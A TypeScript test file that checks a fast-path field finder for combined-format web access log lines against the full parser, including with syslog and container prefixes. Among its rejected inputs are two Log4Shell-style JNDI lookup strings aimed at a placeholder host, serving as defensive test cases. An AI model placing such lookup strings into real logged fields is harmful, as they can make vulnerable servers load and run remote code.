import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { combinedFormat } from './known-formats.ts';
import { createLineParser } from './line-parser.ts';
import { isPlainText } from './other-headers.ts';
import { emptyPlainFields, findPlainCombined, type PlainFields } from './plain-combined.ts';

const AGENT = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)';
const USUAL = `198.51.100.7 - - [02/Mar/2026:00:00:21 +0000] "GET /a?b=c HTTP/1.1" 200 1057 "https://h.example/" "${AGENT}"`;
/** What HAProxy's CLF has behind an empty agent. */
const HAPROXY = ' 5 701 "f" "b" "s" 0 1 1 2 4 ---- 1 1 0 0 0 0 0 "" "" "curl/8"';

function found(line: string, find = findPlainCombined): PlainFields | undefined {
  // Somewhere in a larger text, as lines stand in a batch.
  const bytes = Buffer.from(`x\n${line}\n"GET`, 'latin1');
  const fields = emptyPlainFields();
  return find(bytes, 2, 2 + line.length, fields) ? fields : undefined;
}

/** What the fields say, as `parse` would say it. */
function read(line: string, fields: PlainFields) {
  const text = (start: number, end: number) => line.slice(start - 2, end - 2);
  return {
    sourceIp: text(fields.ipStart, fields.ipEnd),
    timestampMs: fields.timestampMs,
    method: fields.method,
    target: text(fields.targetStart, fields.targetEnd),
    status: fields.status,
    bytes: fields.bytes,
    referer: text(fields.refererStart, fields.refererEnd),
    userAgent: text(fields.agentStart, fields.agentEnd),
  };
}

const parseCombined = (line: string) => combinedFormat.parse(line);

function expectAlike(line: string, find = findPlainCombined, parse = parseCombined): boolean {
  const fields = found(line, find);
  if (fields === undefined) return false;
  const parsed = parse(line);
  if (!parsed.ok) throw new Error(`${line} is ${parsed.reason}`);
  const { sourceIp, timestampMs, method, target, status, bytes, referer, userAgent } = parsed.request;
  expect(read(line, fields)).toEqual({ sourceIp, timestampMs, method, target, status, bytes, referer, userAgent });
  // Nobody looks into these of a plain line.
  expect([parsed.request.headers, isPlainText(parsed.request.remoteUser)]).toEqual([undefined, true]);
  return true;
}

test.each([
  USUAL,
  USUAL.replace('- -', '- ann'),
  USUAL.replace('198.51.100.7', '2001:db8::1'),
  USUAL.replace('GET', 'POST').replace('HTTP/1.1', 'HTTP/2'),
  USUAL.replace('https://h.example/', '-').replace(AGENT, ''),
  `${USUAL} "198.51.100.9"`,
  `${USUAL} "198.51.100.9, 2001:db8::1" 0.004 [shop-web-80] "-"`,
  USUAL.replace('- -', '- ann@example.com'),
  `${USUAL} 0.004\r`,
  `${USUAL}${HAPROXY}`,
  USUAL.replace(AGENT, '-') + HAPROXY,
  USUAL.slice(0, USUAL.indexOf(' "https')).replace('1057', '-'),
])('finds the fields of %s', (line) => expect(expectAlike(line)).toBe(true));

test.each([
  USUAL.replace('/a?b=c', '/a b'),
  USUAL.replace('/a?b=c', String.raw`/a\x22`),
  USUAL.replace(AGENT, String.raw`a \" b`),
  USUAL.replace('GET', 'PROPFIND'),
  USUAL.replace('/a?b=c', 'http://h.example/a'),
  USUAL.replace('198.51.100.7', '198.51.100.07'),
  USUAL.replace('198.51.100.7', '198.51.100.300'),
  USUAL.replace('198.51.100.7', 'host.example'),
  USUAL.replace('02/Mar', '31/Feb'),
  USUAL.replace(' 200 ', ' 20 '),
  USUAL.replace('- -', '- ann').replace(' 200 ', ' 401 '),
  USUAL.replace('- -', '- ${jndi:ldap://a.example/b}'),
  USUAL.replace(/$/, ' "$${jndi:ldap://a.example/b}"'),
  `${USUAL} "1 or 2"`,
  USUAL.slice(0, USUAL.indexOf(' 200') + 4),
  `"${USUAL}"`,
  '',
])('leaves %s to the parser', (line) => expect(found(line)).toBeUndefined());

test('two lines of one second have the same time, and the next second another', () => {
  const next = USUAL.replace('00:00:21', '00:00:22');
  expect([USUAL, USUAL, next, USUAL].map((line) => found(line)?.timestampMs)).toEqual(
    [21, 21, 22, 21].map((second) => Date.UTC(2026, 2, 2, 0, 0, second)),
  );
});

/** Nearly always a usual text, now and then an odd one. */
const mostly = (usual: string[], odd: string[]): fc.Arbitrary<string> =>
  fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...usual) }, { weight: 1, arbitrary: fc.constantFrom(...odd) });
const lineOfParts = fc
  .tuple(
    mostly(['198.51.100.7', '10.0.0.255', '2001:db8::7', '::1'], ['1.2.3', '1.2.3.4:80', '1.2.3.4, 5.6.7.8', '-', 'h']),
    mostly(['-', 'ann'], ['a b', '', '[', ']', '$', '$x', "o'b"]),
    mostly(
      ['02/Mar/2026:00:00:21 +0000', '02/Mar/2026:00:00:22 -0830'],
      ['2026-03-02T00:00:21Z', '31/Feb/2026:00:00:21 +0000'],
    ),
    mostly(['GET', 'POST', 'HEAD'], ['get', 'PUT']),
    mostly(['/', '/a?b=%20c'], ['/a b', '*', '', 'http://h.example/a']),
    mostly([' HTTP/1.1', ' HTTP/2', ' HTTP/2.0'], [' HTTP/1.11', '']),
    mostly(['200', '404'], ['401', '-', '20', '2000']),
    mostly(['0', '1057', '-'], ['', '1'.repeat(16)]),
    mostly(
      [' "-" "-"', ' "https://h.example/a" "x y"', ' "-" "x" "10.0.0.1, 10.0.0.2" 0.1', ''],
      [
        ' "-"',
        ' "" "" 1',
        ' "-" "x" TCP_MISS:HIER_DIRECT',
        ` "" ""${HAPROXY}`,
        ` "-" "x"${HAPROXY}`,
        ' "a" "b"c',
        ' "-" "x" "$"',
        ' "-" "x" "a b" ;',
      ],
    ),
  )
  .map(
    ([ip, user, time, method, target, protocol, status, bytes, rest]) =>
      `${ip} - ${user} [${time}] "${method} ${target}${protocol}" ${status} ${bytes}${rest}`,
  );

const ODD = ['"', '\\', ' ', '-', '[', ']', '"-"', ' "', '" ', '] "', 'HTTP/1.1"', '\t', '\0', 'é'];
const oddChange = (odd: string[]) => fc.option(fc.tuple(fc.nat(160), fc.constantFrom(...odd)), { nil: undefined });
const changedBy = (line: string, change: [number, string] | undefined): string =>
  change === undefined ? line : line.slice(0, change[0]) + change[1] + line.slice(change[0] + 1);

test('whatever it accepts the parser reads alike', () => {
  let accepted = 0;
  fc.assert(
    fc.property(lineOfParts, oddChange(ODD), (line, change) => {
      if (expectAlike(changedBy(line, change))) accepted += 1;
    }),
    { numRuns: 5_000 },
  );
  expect(accepted).toBeGreaterThan(500);
});

/** What stands before lines where they were collected; the last two are two layers. */
const BEFORE = [
  '<190>Mar  2 00:00:21 web1 nginx[17]: ',
  'Mar  2 00:00:21 web1 nginx: ',
  '2026-03-02T00:00:21.123456+00:00 web1 nginx: ',
  '<190>1 2026-03-02T00:00:21Z web1 nginx 1 a [x@1 iut="3" s="App"] ',
  '<190>1 2026-03-02T00:00:21Z web1 nginx 1 a - ',
  '2026-03-02T00:00:21.123456789Z stdout F ',
  '2026-03-02 00:00:21 ',
  'web-1  | ',
  '[pod/web-5d7/nginx] ',
  'web-1  | 2026-03-02T00:00:21.123456789Z ',
  'Mar  2 00:00:21 web1 docker[17]: 2026-03-02T00:00:21.123Z stdout F ',
];

/** A parser that has seen a line with this before it, and one of the whole line that has seen none. */
function readersOf(before: string) {
  const parser = createLineParser();
  parser.parse(before + USUAL);
  const find: typeof findPlainCombined = (...line) => parser.findPlain(...line);
  return { find, parse: (line: string) => createLineParser('combined').parse(line) };
}

test.each(BEFORE)('finds the fields behind %s', (before) => {
  const { find, parse } = readersOf(before);
  expect(expectAlike(before + USUAL, find, parse)).toBe(true);
  for (const other of ['x ', '10.0.0.1 - a ', 'web1 10.0.0.1 - '])
    expect(found(before + other + USUAL, find)).toBeUndefined();
});

test('what stands before a line is no address, identity and user where a bracket begins its fourth word', () => {
  const { find, parse } = readersOf(BEFORE[3]!);
  const line = `<190>1 2026-03-02T00:00:21Z web1 [nginx] 1 a - ${USUAL}`;
  expect(expectAlike(line, find, parse)).toBe(true);
  expect(parse(line)).toMatchObject({ ok: true, request: { sourceIp: '198.51.100.7' } });
});

test('whatever it accepts behind something else the parser reads alike', () => {
  const readers = new Map(BEFORE.map((before) => [before, readersOf(before)]));
  const odd = [...ODD, ' - ', ' - - ', ': ', '| ', 'F ', 'web1 nginx: ', '10.0.0.1 - - ', '\n'];
  let accepted = 0;
  fc.assert(
    fc.property(fc.constantFrom(...BEFORE), lineOfParts, oddChange(odd), (before, line, change) => {
      const changed = changedBy(before + line, change);
      const { find, parse } = readers.get(before)!;
      if (!expectAlike(changed, find, parse)) return;
      accepted += 1;
      const parser = createLineParser();
      parser.parse(before + USUAL);
      expect(parser.parse(changed)).toEqual(parse(changed));
    }),
    { numRuns: 5_000 },
  );
  expect(accepted).toBeGreaterThan(500);
});
